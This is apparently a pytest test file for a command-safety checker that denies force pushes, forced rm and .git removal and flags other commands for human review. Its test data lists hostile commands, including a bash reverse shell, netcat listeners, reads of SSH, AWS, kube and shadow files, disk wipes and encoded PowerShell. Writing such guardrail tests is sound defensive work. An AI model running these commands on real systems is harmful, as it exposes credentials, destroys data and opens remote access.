"""Unit tests for the default dangerous-command checker."""

import pytest

from gatekeeper.dangerous import check_dangerous_command


def denied(command):
    result = check_dangerous_command(command)
    return result.is_dangerous and not result.requires_manual_review


def reviewed(command):
    result = check_dangerous_command(command)
    return result.is_dangerous and result.requires_manual_review


# ---------------------------------------------------------------------------
# Hard denials
# ---------------------------------------------------------------------------

class TestForcePush:
    """git push with force flags is always denied."""

    @pytest.mark.parametrize("command", [
        "git push -f",
        "git push --force origin main",
        "git push --force-with-lease",
        "git push --force-with-lease=main:abc123 origin",
        "git push -uf origin main",
        "git push origin +main",
        "/usr/bin/git push -f",
        "git -C repo push --force",
    ])
    def test_denied(self, command):
        assert denied(command)
        assert check_dangerous_command(command).reason == "Force push detected"

    @pytest.mark.parametrize("command", [
        "git push",
        "git push -u origin feature",
        "git push --follow-tags",
        "git push origin main",
    ])
    def test_normal_push_allowed(self, command):
        assert not check_dangerous_command(command).is_dangerous


class TestForceRm:
    """rm with force flags is always denied."""

    @pytest.mark.parametrize("command", ["rm -rf build", "rm -f x", "rm -fr x", "rm --force x", "rm -Rf x"])
    def test_denied(self, command):
        assert denied(command)
        assert check_dangerous_command(command).reason == "Force rm detected"

    @pytest.mark.parametrize("command", ["\\rm -rf x", "r''m -rf x", "'rm' -f x", "/bin/rm -rf x"])
    def test_quoted_or_escaped_program_name(self, command):
        assert denied(command)
        assert check_dangerous_command(command).reason == "Force rm detected"

    def test_plain_rm_not_flagged(self):
        assert not check_dangerous_command("rm notes.txt").is_dangerous

    def test_recursive_without_force_not_flagged(self):
        assert not check_dangerous_command("rm -r build").is_dangerous


class TestGitDirectoryProtection:
    """Writes that remove or move .git are denied."""

    @pytest.mark.parametrize("command", ["rm -r .git", "rmdir .git", "mv .git /tmp/x", "mv .git* /tmp/x", "rm -r .git*", "rm .git/config", "rm -r sub/.git"])
    def test_denied(self, command):
        assert denied(command)
        assert check_dangerous_command(command).reason == ".git directory protection"

    @pytest.mark.parametrize("command", ["rm .gitignore", "mv .github/x y", "cat .git/config"])
    def test_lookalikes(self, command):
        assert not check_dangerous_command(command).is_dangerous


# ---------------------------------------------------------------------------
# Manual review
# ---------------------------------------------------------------------------

class TestGitReview:
    """Git operations that need a human."""

    @pytest.mark.parametrize("command", [
        "git commit --no-verify -m x",
        "git commit -n -m x",
        "git commit -nm x",
        "git -c commit.gpgsign=false commit -m x",
    ])
    def test_commit_bypass(self, command):
        assert reviewed(command)

    def test_normal_commit(self):
        assert not check_dangerous_command("git commit -m 'fix: thing'").is_dangerous

    @pytest.mark.parametrize("command", ["git config user.email a@b.c", "git config --global core.editor vim"])
    def test_config_write(self, command):
        assert reviewed(command)
        assert check_dangerous_command(command).reason == "Git config modification detected"

    @pytest.mark.parametrize("command", [
        "git config --get user.email",
        "git config --list",
        "git config -l",
        "git config --get-regexp alias",
        "git config --global --get-all core.excludesfile",
    ])
    def test_config_read(self, command):
        assert not check_dangerous_command(command).is_dangerous

    @pytest.mark.parametrize("command", [
        "GIT_AUTHOR_NAME=x git commit -m y",
        "EMAIL=a@b.c git commit",
        "GIT_DIR=/tmp/x git status",
    ])
    def test_env_override(self, command):
        assert reviewed(command)
        assert check_dangerous_command(command).reason == "Git environment variable override detected"

    def test_env_assignment_without_git(self):
        assert not check_dangerous_command("GIT_PAGER=cat ls").is_dangerous


class TestReviewRules:
    """Broad categories that are sometimes legitimate."""

    @pytest.mark.parametrize("command", [
        "sudo apt install x",
        "\\sudo ls",
        "su - root",
        "doas reboot",
        "dd if=/dev/zero of=/dev/sda",
        "mkfs.ext4 /dev/sdb1",
        "fdisk -l",
        "cat ~/.ssh/id_rsa",
        "grep key ~/.aws/credentials",
        "head /home/bob/.kube/config",
        "cat /etc/shadow",
        "echo aGk= | base64 -d",
        "base64 --decode payload.txt",
        "powershell -EncodedCommand ZQBjAGgAbwA=",
        "nc -l 4444",
        "nc -lvp 4444",
        "ncat -l 8080",
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "crontab -e",
        "chmod 777 /srv",
        "chmod -R 777 dir",
        "kill -9 1",
        "psql -c 'DROP TABLE users'",
        "mysql -e \"truncate logs\"",
        "mongo --eval 'db.dropDatabase()'",
        "perl -e 'print 1'",
        "ruby -e 'puts 1'",
    ])
    def test_review(self, command):
        result = check_dangerous_command(command)
        assert result.is_dangerous
        assert result.requires_manual_review
        assert result.reason.startswith("Dangerous command requires review: ")

    @pytest.mark.parametrize("command", [
        "git status",
        "ls -la",
        "cat README.md",
        "npm test",
        "chmod 644 file",
        "kill -9 1234",
        "psql -c 'SELECT 1'",
        "pytest -q",
        "",
        "   ",
    ])
    def test_safe(self, command):
        assert not check_dangerous_command(command).is_dangerous
